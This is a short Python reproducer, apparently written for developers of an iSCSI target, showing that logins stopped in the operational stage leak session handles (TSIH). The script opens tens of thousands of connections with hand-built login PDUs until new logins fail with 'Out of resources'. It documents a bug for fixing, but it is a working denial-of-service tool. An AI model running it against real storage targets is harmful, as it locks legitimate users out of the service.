#!/usr/bin/env python3
"""Reproducer (not run by the suite): logins that stop in the operational
stage leak their TSIH. The TSIH is allocated when the operational stage
starts (handle_login_text, src/iscsi/login.c) and freed only with a
session; iscsi_login_free does not give it back. After ~65535 such logins
every new login fails with status 0x0302 (Out of resources).

  usage: tsih_leak.py HOST PORT IQN COUNT   (target IQN with ACL ALL)
e.g. COUNT=66000 (about 16 s on loopback), then
  iscsi-inq iscsi://HOST:PORT/IQN/1   ->  Status: Out of resources(770)
"""
import socket, struct, sys, time
HOST, PORT, IQN, COUNT = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])

def pdu(keys, flags, isid):
    raw = "".join(k + "\0" for k in keys).encode()
    h = bytearray(48)
    h[0] = 0x43; h[1] = flags
    h[5:8] = struct.pack(">I", len(raw))[1:]
    h[8:14] = isid
    h[16:20] = struct.pack(">I", 1)
    h[24:28] = struct.pack(">I", 1)
    return bytes(h) + raw + b"\0" * (-len(raw) % 4)

def recv(s):
    d = b""
    while len(d) < 48:
        c = s.recv(48 - len(d))
        if not c: return None
        d += c
    dl = struct.unpack(">I", b"\0" + d[5:8])[0]
    n = dl + (-dl % 4)
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c: break
        b += c
    return d

t0 = time.time()
for i in range(COUNT):
    s = socket.create_connection((HOST, PORT))
    # CSG=1 (operational), no Transit: the target allocates a TSIH and waits.
    s.sendall(pdu(["InitiatorName=iqn.x:leak", "TargetName=" + IQN,
                   "SessionType=Normal", "HeaderDigest=None"], 0x04,
                  struct.pack(">IH", 0x80000000 | (i & 0xffffff), 1)))
    h = recv(s)
    if i == 0 or h is None or h[36] or h[37]:
        print(i, "status", None if h is None else (h[36], h[37]))
        if h is None or h[36]: break
    s.close()
print("done", COUNT, "in %.1fs" % (time.time() - t0))
